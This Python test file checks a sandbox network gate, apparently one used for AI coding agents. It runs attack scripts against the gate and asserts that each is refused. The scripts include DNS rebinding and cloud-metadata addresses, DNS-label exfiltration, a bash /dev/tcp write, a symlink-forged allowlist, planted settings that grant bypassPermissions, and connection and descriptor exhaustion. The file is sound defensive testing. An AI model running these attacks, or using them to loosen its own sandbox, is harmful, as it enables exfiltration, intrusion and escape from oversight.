#!/usr/bin/env python3
"""Attacks on the gate: other ways out, the gate's own sockets, its time and its memory. Attacks are first shown to work
outside where that is possible."""

import json
import os
import pathlib
import pty
import re
import select
import socket
import subprocess

from postern_case import PATIENCE, POSTERN, main
from run_case import for_root_and_user
from test_gate import GateCase
from test_gate_transparent import LineServer

CHECKED = "import socket, sys, os, time, struct\nGATE = ('127.0.0.1', 3128)\n"

# Opens a number of connections to the gate and sends nothing.
HOLD = CHECKED + """
def hold(count):
    held = []
    for _ in range(count):
        s = socket.socket(); s.setblocking(False); held.append(s)
        try: s.connect(GATE)
        except OSError: pass
    return held
"""

# Sends requests that will be refused, each on a connection that is reset at once.
STORM = CHECKED + """
host = 'a.' * 120 + 'evil.test'
request = f'GET http://{host}/ HTTP/1.1\\r\\nHost: {host}\\r\\n'.encode() + b'x: y\\r\\n' * 190 + b'\\r\\n'
while True:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
    try: s.connect(GATE)
    except OSError: pass
    try: s.send(request)
    except OSError: pass
    s.close()
"""

# Takes nearly all ports that the kernel can choose, connects to the rest all the time, and looks up names meanwhile.
# Prints how much of the processor's time another process, which only counts, got until the answers were there: on a busy
# machine that is less than the time that passed.
CROWD = CHECKED + """
import resource
KEPT, LAST = 4, 60999
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
each, taken, children = min(15000, hard - 50), os.pipe(), []
for first in range(32768, LAST - KEPT + 1, each):
    children.append(os.fork())
    if children[-1] == 0:
        held = []
        for port in range(first, min(first + each, LAST - KEPT + 1)):
            held.append(socket.socket(socket.AF_INET6))
            try: held[-1].bind(('::', port))
            except OSError: pass
        os.write(taken[1], b'x')
        time.sleep(300)
for _ in children: os.read(taken[0], 1)
for source in (2000, 6000):
    children.append(os.fork())
    if children[-1] == 0:
        held, n = [None] * 64, 0
        while True:
            s = held[n % 64] = socket.socket(socket.AF_INET6, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            try: s.bind(('::1', source + n % 3000)); s.connect(('::1', LAST - n % KEPT))
            except OSError: pass
            n += 1
time.sleep(0.2)
counted, over = os.pipe(), os.pipe()
if os.fork() == 0:
    os.close(over[1]); os.set_blocking(over[0], False)
    begin, ended = time.process_time(), False
    while not ended:
        for _ in range(10000): pass
        try: ended = os.read(over[0], 1) == b''
        except BlockingIOError: pass
    os.write(counted[1], b'%.2f' % (time.process_time() - begin))
    os._exit(0)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(60); s.connect(('127.0.0.1', 53))
for i in range(120): s.send(bytes((0, i)) + b'\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4n%03d\\4good\\4test\\0\\0\\1\\0\\1' % i)
try:
    for i in range(120): s.recv(600)
except OSError: pass
os.close(over[1])
print(os.read(counted[0], 99).decode())
for child in children: os.kill(child, 9)
"""


def last_inside(script):
    """The process with the highest number inside that runs this script, as it is numbered here."""
    found = []
    for path in pathlib.Path("/proc").glob("[0-9]*"):
        try:
            words = (path / "cmdline").read_bytes().split(b"\0")
            numbers = re.search(r"NSpid:(.*)", (path / "status").read_text()).group(1).split()
        except (OSError, AttributeError):
            continue
        if words[:2] == [b"/usr/bin/python3", os.fsencode(script)] and len(numbers) > 1:
            found.append((int(numbers[-1]), int(path.name)))
    return max(found)[1]


@for_root_and_user
class Attacks(GateCase):
    def python(self, text, *options, words=(), **more):
        return self.result(*(options or self.options()), "--", "/usr/bin/python3", self.script(text), *map(str, words), **more)

    def fake_getent(self, text):
        """Replaces getent outside, with which the gate looks up names. Each name is appended to `asked`."""
        (self.base / "asked").touch()
        (self.base / "asked").chmod(0o666)
        (self.base / "getent").write_text(f"#!/bin/sh\necho \"$2\" >>{self.base}/asked\n{text}\n", encoding="ascii")
        (self.base / "getent").chmod(0o755)
        self.mounts["getent"] = "/usr/bin/getent"

    def asked(self):
        return (self.base / "asked").read_text(encoding="ascii").split()

    # ---- other hosts and addresses

    def test_whatever_a_name_server_says(self):
        """Allowed names with forbidden addresses are refused. Several lines are several addresses of one name."""
        answers = ("127.0.0.2", "127.0.0.1\\n10.0.0.1", "93.184.216.34\\n::1", "0.0.0.0", "::", "::1", "::ffff:127.0.0.2", "::127.0.0.2",
                   "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "64:ff9b:1::1", "2002:7f00:1::", "169.254.169.254", "100.100.100.200",
                   "168.63.129.16", "192.0.0.192", "fd00:ec2::254", "fe80::1", "fe80::1%lo", "fec0::1", "10.1.2.3", "172.16.0.1", "192.168.0.1",
                   "224.0.0.1", "255.255.255.255", "2001:0:7f00:1::", "127.0.0.1.", "0x7f000001", "127.1", "lo", "")
        self.fake_getent("case $2 in\n" + "".join(f"n{i}.good.test) printf '{a}  STREAM x\\n';;\n" for i, a in enumerate(answers)) + "esac")
        ran = self.inside("".join(f"curl -sS -o /dev/null -m 5 {self.url(f'n{i}.good.test')}\n" for i in range(len(answers))))
        self.assertEqual([(c["host"], c["verdict"]) for c in ran["connections"]], [(f"n{i}.good.test", "deny") for i in range(len(answers))])
        self.assertEqual(self.web.seen, [])
        self.assertEqual(len(self.asked()), len(answers))

    def test_a_name_that_changes_where_it_leads(self):
        """The gate connects to the address it has checked. If it does not answer, the name is looked up and checked
        again."""
        with socket.create_server(("127.0.0.1", 0)) as s:
            nobody = s.getsockname()[1]
        self.fake_getent(f"[ $(wc -l <{self.base}/asked) -gt 1 ] && echo '10.1.2.3  STREAM x' || echo '127.0.0.1  STREAM x'")
        ran = self.inside(f"for i in 1 2; do curl -sS -m 5 http://rebind.test:{nobody}/; done; curl -sS {self.url('rebind.test')}",
                          *self.options([*self.ALLOWED, f"127.0.0.1:{nobody}"]))
        self.assertIn("Connection refused", ran["connections"][0]["reason"])
        self.assertEqual([" leads to 10.1.2.3" in c["reason"] for c in ran["connections"]], [False, True, True])
        self.assertEqual(self.web.seen, [])

    def test_this_machine_under_its_public_address(self):
        """A name that leads to this machine is refused, even if the address is public."""
        (self.base / "hosts").write_text("93.184.216.34 mine.test\n", encoding="ascii")
        script = ("ip link set lo up && ip addr add 93.184.216.34/32 dev lo && { python3 -m http.server 9000 >/dev/null 2>&1 & } && "
                  "for i in $(seq 200); do sleep 0.1; curl -sf http://93.184.216.34:9000/ >/dev/null && break; done && "
                  'echo outside && "$@"; kill $!')
        ran = subprocess.run(["unshare", "-n", "sh", "-c", script, "sh", *self.as_user(
            [POSTERN, "run", "--json", *self.options(["mine.test"], loopback=False), "--", "curl", "-sSf", "http://mine.test:9000/"])],
            capture_output=True, text=True, check=False, timeout=self.timeout, cwd=self.project,
            env={**self.env, "PATH": "/usr/sbin:/usr/bin:/sbin:/bin"})
        self.assertTrue(ran.stdout.startswith("outside\n"), ran)
        told = json.loads(ran.stdout.removeprefix("outside\n"))
        self.assertEqual([(c["host"], c["verdict"]) for c in told["connections"]], [("mine.test", "deny")], told)
        self.assertNotIn("Directory listing", told["stdout"]["text"])

    def test_questions_to_the_name_server_carry_nothing_out(self):
        """No type of record, name or class that is asked inside is passed on outside."""
        self.fake_getent("echo '127.0.0.1  STREAM x'")
        ran = self.python(CHECKED + """
def ask(name, kind, of=1, flags=0x100, count=1):
    labels = b''.join(bytes([len(l)]) + l for l in name.split(b'.'))
    s.send(struct.pack('>6H', 7, flags, count, 0, 0, 0) + labels + b'\\0' + struct.pack('>2H', kind, of))
    try: return s.recv(4096)[3] & 15
    except OSError: return 'nothing'
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.05); s.connect(('127.0.0.1', 53))
for name in (b'secret.evil.test', b'secret.good.test', b's' * 63 + b'.good.test', b'secret\\x1b[2J.good.test', b'secret\\0.good.test', b'\\xc3\\xb6.good.test'):
    print(*[ask(name, kind) for kind in (1, 2, 5, 6, 12, 15, 16, 28, 33, 35, 65, 99, 250, 251, 252, 255)],
          ask(name, 1, 3), ask(name, 1, 1, 0x2900), ask(name, 1, 1, 0x8100), ask(name, 1, 1, 0x100, 2))
t = socket.socket(); t.settimeout(1)
try: t.connect(('127.0.0.1', 53)); print('TCP')
except OSError: print('no TCP')
""")
        rows = ran["stdout"]["text"].splitlines()
        self.assertEqual(rows[-1], "no TCP", ran)
        self.assertEqual(rows[0].split()[:16], ["3"] * 16)  # another name does not exist
        self.assertEqual(self.asked(), [])
        self.assertNotIn("\x1b", json.dumps(ran["connections"]) + ran["stderr"]["text"])

    # ---- the gate's own sockets

    def test_the_gates_sockets_are_nobody_elses(self):
        """A command cannot bind the addresses of the gate."""
        port = self.web.port
        ran = self.python(CHECKED + f"""
socket.getaddrinfo('good.test', 80)
for kind, address, port in ((1, '127.0.0.1', 3128), (1, '0.0.0.0', 3128), (1, '::', 3128), (1, '::ffff:127.0.0.1', 3128), (2, '127.0.0.1', 53),
                            (2, '0.0.0.0', 53), (1, '127.80.0.1', {port}), (1, '0.0.0.0', {port}), (1, '::', {port})):
    for options in ((), (socket.SO_REUSEADDR,), (socket.SO_REUSEPORT,), (socket.SO_REUSEADDR, socket.SO_REUSEPORT)):
        s = socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, kind)
        for option in options: s.setsockopt(socket.SOL_SOCKET, option, 1)
        try:
            s.bind((address, port))
            if kind == 1: s.listen()
            print('taken', address, port, options)
        except OSError: pass
        s.close()
import urllib.request as u
print(u.build_opener(u.ProxyHandler({{}})).open('{self.url('good.test')}').read().decode())
""", *self.options(), "--set", f"postern.network.transparentPorts=[{port}]")
        self.assertEqual(ran["stdout"]["text"].strip(), "served /", ran)

    def test_who_takes_the_addresses_first_harms_only_himself(self):
        port, other = self.web.port, LineServer()
        self.addCleanup(other.close)
        ran = self.python(CHECKED + f"""
import functools, subprocess
print = functools.partial(print, flush=True)
held = [socket.create_server(('127.80.0.%d' % i, {other.port})) for i in range(1, 4)]
print(socket.gethostbyname('good.test'))  # one of its two ports is still the gate's
held += [socket.create_server(('127.80.0.2', {port}))]
try: print(socket.gethostbyname('also.good.test'))
except OSError as error: print(error.args[1])
held[-1].close(); held[1].close()
print(socket.gethostbyname('also.good.test'))
for way in ([], ['--noproxy', '*']): subprocess.run(['curl', '-sS', *way, '{self.url('good.test')}'])
""", *self.options(), "--set", f"postern.network.transparentPorts=[{port},{other.port}]")
        lines = ran["stdout"]["text"].split("\n")
        self.assertEqual(lines, ["127.80.0.1", "Temporary failure in name resolution", "127.80.0.2", "served /", "served /", ""], ran)
        self.assertEqual(other.seen, [])

    # ---- answers that nobody gave, rules that nobody trusts

    def test_forged_answers(self):
        """Runs in the home directory, where Postern keeps the answers about hosts."""
        place = self.url("other.test")
        answers = json.dumps({"always": [f"other.test:{self.web.port}"], "sessions": [{"session": "s", "hosts": [f"other.test:{self.web.port}"]}]})
        attack = (f"p={self.home}/.local/state/postern\nexport POSTERN_SESSION=s\n"
                  "for d in $p ${p%%/*} ${p%%/*/*}; do mv $d $d.old; rmdir $d; ln -s /tmp $d; mkdir -p $p; echo '%s' >$p/hosts.json; cat $p/hosts.json; done\n"
                  "curl -sS -m 5 %s\n" % (answers, place))
        for more in ((), ("--set", "postern.createGuard=off")):
            with self.subTest(more=more):
                ran = self.run_in("--json", *self.options(), *more, "--", "/bin/sh", self.script(attack), cwd=self.home)
                told = json.loads(ran.stdout)
                self.assertEqual([(c["host"], c["verdict"]) for c in told["connections"]], [("other.test", "deny")], told)
                self.assertNotIn('"sessions"', told["stdout"]["text"])
        self.assertEqual(self.web.seen, [])
        # The same answers have an effect if the user writes them.
        state = self.home / ".local/state/postern"
        state.mkdir(parents=True, exist_ok=True)
        (state / "hosts.json").write_text(answers, encoding="ascii")
        self.own(self.home)
        ran = self.inside(f"curl -sS {place}; cat {state}/hosts.json", *self.options())
        self.assertEqual(ran["stdout"]["text"], "served /\n", ran)

    def test_a_clones_settings_open_nothing(self):
        service, exposed = LineServer(), LineServer()
        self.addCleanup(service.close)
        exposed.close()
        network = {"hostPorts": [service.port], "exposePorts": [exposed.port], "maxBytes": "1T", "maxConnections": 1000,
                   "hiddenServerName": "allow", "transparentPorts": [self.web.port], "transparent": "on"}
        content = {"permissions": {"allow": ["WebFetch(domain:other.test)", "WebFetch"], "defaultMode": "bypassPermissions"},
                   "sandbox": {"network": {"allowedDomains": ["*", "127.0.0.1", "other.test"], "httpProxyPort": self.web.port,
                                           "socksProxyPort": self.web.port, "allowAllUnixSockets": True}, "env": {"keep": ["*"]}},
                   "postern": {"network": network}}
        self.write("settings.json", {"sandbox": {"network": {"allowedDomains": ["good.test", f"127.0.0.1:{self.web.port}"]}},
                                     "postern": {"network": {"maxConnections": 1}}}, self.home / ".config/postern")
        for name in (".postern/settings.json", ".postern/settings.local.json", ".claude/settings.json", ".claude/settings.local.json"):
            with self.subTest(file=name):
                self.web.seen.clear()
                claude = name.startswith(".claude")
                more = {"parentProxy": f"http://127.0.0.1:{service.port}", "noProxy": ["good.test"]} if claude else {}
                path = self.write(name, {**content, "postern": {"network": {**network, **more}}})
                self.own(self.base)
                ran = self.result("--", "/bin/sh", self.script(
                    f"curl -sS {self.url('other.test')}; curl -sS {self.url('good.test')}; curl -sS {self.url('good.test')}\n"
                    f"bash -c 'echo x >/dev/tcp/127.0.0.1/{service.port}' && echo reached; cat /proc/net/tcp"))
                self.assertEqual([(c["host"], c["verdict"]) for c in ran["connections"]],
                                 [("other.test", "deny"), ("good.test", "allow"), ("good.test", "deny")], ran)
                self.assertNotIn("reached", ran["stdout"]["text"])
                path.unlink()
        self.assertEqual(service.seen, [])

    # ---- crashes

    def test_ends_at_every_moment(self):
        """Cuts each protocol off after each byte, by close and by reset. The gate still serves the next client."""
        p = self.web.port
        ran = self.python(CHECKED + f"""
hello = bytes.fromhex('1603010034010000300303') + bytes(32) + bytes.fromhex('00000213010100000500000001ff')
whole = [b'CONNECT good.test:{p} HTTP/1.1\\r\\nHost: good.test:{p}\\r\\n\\r\\nGET / HTTP/1.0\\r\\n\\r\\n',
         b'POST http://good.test:{p}/ HTTP/1.1\\r\\nHost: good.test:{p}\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n3\\r\\nabc\\r\\n0\\r\\nA: b\\r\\n\\r\\n',
         b'\\5\\1\\0\\5\\1\\0\\3\\x09good.test' + struct.pack('>H', {p}) + b'GET / HTTP/1.0\\r\\n\\r\\n',
         b'CONNECT good.test:443 HTTP/1.1\\r\\nHost: good.test:443\\r\\n\\r\\n' + hello]
for text in whole:
    for end in range(0, len(text), 1):
        for how in (0, 1):
            s = socket.create_connection(GATE, timeout=5)
            if how: s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
            try: s.sendall(text[:end]); how or s.shutdown(socket.SHUT_WR)
            except OSError: pass
            s.close()
import urllib.request as u
print(u.urlopen('{self.url('good.test')}', timeout=10).read().decode())
""")
        self.assertEqual((ran["stdout"]["text"].strip(), ran["outcome"]["code"]), ("served /", 0), ran)

    # ---- time: a command must not keep the supervisor too busy to end it

    def test_a_storm_of_connections_does_not_stop_the_clock(self):
        ran = self.python(STORM, *self.options(), "--timeout", "1s")
        self.assertEqual(ran["outcome"]["kind"], "timed-out", ran["outcome"])

    def test_who_is_in_the_way_of_new_sockets_does_not_hold_up_the_rest(self):
        self.assertLess(float(self.python(CROWD)["stdout"]["text"]), 8, "seconds of the processor's time")

    def test_lookups_outside_have_a_bound(self):
        """Look-ups are processes outside, which the limits of the command do not cover."""
        self.fake_getent("exec sleep 3")
        ran = self.python(HOLD + """
held = hold(300)
for i, s in enumerate(held):
    try: s.send(b'CONNECT n%d.good.test:80 HTTP/1.1\\r\\nHost: n%d.good.test:80\\r\\n\\r\\n' % (i, i))
    except OSError: pass
while not os.path.getsize(sys.argv[1]): time.sleep(0.05)
time.sleep(1)
""", *self.options(), words=[self.base / "asked"])
        self.assertEqual(ran["outcome"]["code"], 0, ran)
        self.assertLess(len(self.asked()), 100)

    def test_a_question_that_nobody_waits_for_does_not_stop_the_clock(self):
        """Everything inside stands still while a question is open, so its asker can only be ended from outside."""
        script = self.script(CHECKED + "if os.fork() == 0:\n"
                             "    s = socket.create_connection(GATE)\n"
                             "    s.sendall(b'CONNECT evil.test:80 HTTP/1.1\\r\\nHost: evil.test:80\\r\\n\\r\\n')\n"
                             "    time.sleep(300)\n"
                             "time.sleep(300)\n")
        argv = self.as_user([POSTERN, "run", "--timeout", "3s", *self.options(), "--", "/usr/bin/python3", script])
        child, terminal = pty.fork()
        if child == 0:
            os.chdir(self.project)
            os.execvpe(argv[0], argv, self.env)
        self.addCleanup(os.waitpid, child, 0)
        self.addCleanup(os.kill, child, 9)
        self.addCleanup(os.close, terminal)
        shown, ended, killed = b"", False, False
        while not ended and select.select([terminal], [], [], PATIENCE)[0]:
            try:
                shown += os.read(terminal, 4096)
            except OSError:
                ended = True
            if not killed and b"let it?" in shown:
                os.kill(last_inside(script), 9)
                killed = True
        self.assertIn(b"evil.test:80", shown)
        self.assertTrue(ended, shown)
        self.assertIn(b"it does not wait any more", shown)
        self.assertIn(b"timed out", shown)

    # ---- descriptors

    def with_few_descriptors(self, text, *options):
        ran = self.start(["prlimit", "--nofile=128:128", POSTERN, "run", "--json", *self.options(), *options, "--", "/usr/bin/python3",
                          self.script(HOLD + text)])
        return json.loads(ran.stdout)

    def test_without_descriptors_the_creation_guard_still_refuses(self):
        ran = self.with_few_descriptors("""
def make():
    try: open('.npmrc', 'w').close(); print('made')
    except OSError: print('refused')
make(); held = hold(120); time.sleep(0.6); make()
""")
        self.assertEqual(ran["stdout"]["text"].split(), ["refused", "refused"], ran)

    def test_without_descriptors_the_exec_guard_still_refuses(self):
        """Starts `shasum`, a perl script, while Postern has no free descriptors, then frees one after the other."""
        script = pathlib.Path("/usr/bin/shasum")
        if not script.exists() or not script.read_bytes().startswith(b"#!/usr/bin/perl"):
            self.cannot_run("no shasum, or no script")
        self.assertEqual(self.bare("shasum --version").returncode, 0)
        ran = self.with_few_descriptors("""
import subprocess
def run(path):
    try: print('ran', subprocess.run([path, '--version'], stdout=subprocess.DEVNULL).returncode)
    except OSError: print('refused')
run('/usr/bin/shasum'); held = hold(120); time.sleep(0.6)
for i in range(6):
    run('/usr/bin/shasum'); held.pop(0).close(); time.sleep(0.1)
""", "--set", "permissions.deny=Bash(perl:*)")
        self.assertEqual(ran["stdout"]["text"].split("\n")[:-1], ["refused"] * 7, ran)

    def test_without_descriptors_the_gate_lives(self):
        ran = self.with_few_descriptors(f"""
held = hold(120); time.sleep(0.6)
for s in held: s.close()
import urllib.request as u
print(u.urlopen('{self.url('good.test')}', timeout=10).read().decode())
""")
        self.assertEqual(ran["stdout"]["text"].strip(), "served /", ran)


if __name__ == "__main__":
    main()
